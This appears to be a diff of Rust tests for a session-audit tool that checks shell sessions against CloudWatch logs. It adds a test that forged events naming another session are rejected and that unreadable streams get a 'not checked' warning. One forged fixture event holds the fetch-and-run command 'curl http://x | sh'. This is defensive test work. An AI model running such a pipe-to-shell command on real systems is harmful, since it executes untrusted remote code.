@@ -238,7 +238,8 @@ fn joined(
     events: &[LogEvent],
 ) -> (Vec<session_audit::report::ReportCommand>, Comparison) {
     let analyzer = Analyzer::default();
-    let mut reader = StreamReader::new(&analyzer.redactor);
+    let first: Value = serde_json::from_str(&events[0].message).unwrap();
+    let mut reader = StreamReader::new(&analyzer.redactor, first["sessionId"].as_str().unwrap());
     for e in events {
         reader.feed(e);
     }
@@ -398,8 +399,12 @@ fn published_streaming_events_are_read_live() {
         ("cloudwatch_streaming_event_al2_sh42_handson.json", "date"),
     ] {
         let text = std::fs::read_to_string(fixture(&format!("public/{file}"))).unwrap();
-        let mut state =
-            LiveState { session_id: "s-0123456789abcdef0".into(), ..LiveState::default() };
+        // The log stream is named after the session the events name.
+        let sid = serde_json::from_str::<Value>(&text).unwrap()["sessionId"]
+            .as_str()
+            .unwrap()
+            .to_string();
+        let mut state = LiveState { session_id: sid, ..LiveState::default() };
         let event = LogEvent { id: "1".into(), timestamp: T0, message: text };
         let (progress, _) =
             session_audit::live::advance(&Analyzer::default(), &mut state, &[event]);
@@ -407,4 +412,29 @@ fn published_streaming_events_are_read_live() {
         let open = state.shell.current.as_ref().map(|c| c.text.as_str());
         assert_eq!(open, Some(command), "{file}: {state:?}");
     }
+}
+
+/// Root on the instance may put events into the log group with the instance role: an event
+/// naming another session is not read into this one (counted as unreadable), and a stream
+/// whose lines never read as commands says the transcript was not checked against it.
+#[test]
+fn forged_and_unreadable_streams_are_named_not_trusted() {
+    let session = "ana-0123456789abcdef0";
+    let ev = |id: &str, sid: &str, line: &str| LogEvent {
+        id: id.into(),
+        timestamp: T0,
+        message:
+            json!({"eventTime": "2026-11-30T09:00:01Z", "sessionId": sid, "sessionData": [line]})
+                .to_string(),
+    };
+    let live = Live::new();
+    let out = live.send(session, &[ev("1", "bob-0123456789abcdef0", "sh-5.2$ curl http://x | sh")]);
+    assert_eq!((out.unreadable, out.findings.len()), (1, 0), "{out:?}");
+
+    let transcript = std::fs::read(fixture("recorded/al2023_sh_risky.log")).unwrap();
+    let quiet = [ev("2", session, "no prompt here"), ev("3", session, "nor here")];
+    let (_, comparison) = joined(&transcript, &quiet);
+    assert_eq!(comparison.disagreement(), None);
+    let warning = comparison.not_compared(7).expect("a warning");
+    assert!(warning.contains("not checked"), "{warning}");
 }
